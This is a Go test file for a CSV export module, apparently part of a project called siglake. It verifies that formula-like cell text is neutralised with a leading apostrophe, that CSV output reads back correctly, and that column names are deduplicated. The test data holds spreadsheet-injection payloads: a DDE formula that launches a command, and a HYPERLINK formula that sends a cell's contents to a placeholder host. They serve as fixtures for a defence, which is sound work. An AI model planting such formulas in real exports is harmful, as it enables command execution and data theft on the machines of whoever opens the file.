package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/siglake/siglake/schema"
)

// TestNeutralise: what a spreadsheet may execute gets an apostrophe, and nothing else changes.
func TestNeutralise(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"=1+1": "'=1+1", "+1+1": "'+1+1", "-1+1": "'-1+1", "@SUM(A1)": "'@SUM(A1)",
		"=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0", `=HYPERLINK("http://x.example?"&A1)`: `'=HYPERLINK("http://x.example?"&A1)`,
		"\t=1": "'\t'=1", "\r=1": "'\r'=1", "\n=1": "'\n'=1", "\ttext": "'\ttext", "\rtext": "'\rtext",
		"  =1": "'  =1", "\u00a0=1": "'\u00a0=1", "\u3000=1": "'\u3000=1", "\ufeff=1": "'\ufeff=1", "\u200b=1": "'\u200b=1", "\x00=1": "'\x00=1",
		"＝1+1": "'＝1+1", "＋1+1": "'＋1+1", "－1+1": "'－1+1", "＠SUM(1)": "'＠SUM(1)",
		`"=1"`: `'"=1"`, "'=1": "''=1", `"" =1`: `'"" =1`, "`=1": "'`=1", "“=1": "'“=1",
		"a;=1": "a;'=1", "a; =1": "a;' =1", "a\t@x": "a\t'@x", "a\n-x": "a\n'-x", "a\r\n=1": "a\r\n'=1", `a;"=1"`: `a;'"=1"`, ";=1": ";'=1",
		"+49 30 123": "'+49 30 123", "+49-30-123": "'+49-30-123", "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0", "--x": "'--x", "-": "-", "---": "---",

		"-5": "-5", "-1,234.50": "-1,234.50", "-1.234,50": "-1.234,50", "+49301234": "+49301234", "-3 %": "-3 %", "-1.5e-3": "-1.5e-3", " -5 ": " -5 ", "a;-5": "a;-5",
		"": "", "plain": "plain", "a=b": "a=b", "a-b": "a-b", "me@x.example": "me@x.example", "Smith, John": "Smith, John", "a\nb": "a\nb", "0012": "0012", "1+1": "1+1", "(+49) 30": "(+49) 30",
	} {
		if got := neutralise(text); got != want {
			t.Errorf("neutralise(%q) = %q, want %q", text, got, want)
		}
	}
}

// TestCSV: another reader gives back what was written, formulas apart.
func TestCSV(t *testing.T) {
	t.Parallel()
	columns := []schema.Column{{Name: "=name"}, {Name: "count", Type: schema.Int64}, {Name: "day", Type: schema.Date}, {Name: "seen", Type: schema.Time}}
	var out bytes.Buffer
	w, err := newCSV(&out, columns, true)
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range [][]Cell{
		{textCell("a, \"b\"\nc"), numberCell(-5), numberCell(20_000), numberCell(1_700_000_000_000_000)},
		{textCell("@x"), {}, {}, {}},
		{textCell("0012"), numberCell(0), numberCell(-1), numberCell(0)},
	} {
		if err := w.writeRow(row); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.close(); err != nil {
		t.Fatal(err)
	}
	text, found := strings.CutPrefix(out.String(), "\xef\xbb\xbf")
	got, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	want := [][]string{
		{"'=name", "count", "day", "seen"},
		{"a, \"b\"\nc", "-5", "2024-10-04", "2023-11-14 22:13:20"},
		{"'@x", "", "", ""},
		{"0012", "0", "1969-12-31", "1970-01-01 00:00:00"},
	}
	if diff := cmp.Diff(want, got); diff != "" || err != nil || !found {
		t.Errorf("read back: %v, mark %t (-want +got):\n%s", err, found, diff)
	}
}

func TestColumnNames(t *testing.T) {
	t.Parallel()
	names, got := columnNames{}, []string{}
	for _, name := range []string{"Name", "name", "NAME", " a\tb\u200b\n c ", "", "\x00", "Name (2)", strings.Repeat("ä", 300)} {
		got = append(got, names.add(name))
	}
	want := []string{"Name", "name (2)", "NAME (3)", "a b c", "column", "column (2)", "Name (2) (2)", strings.Repeat("ä", 200)}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("names (-want +got):\n%s", diff)
	}
}
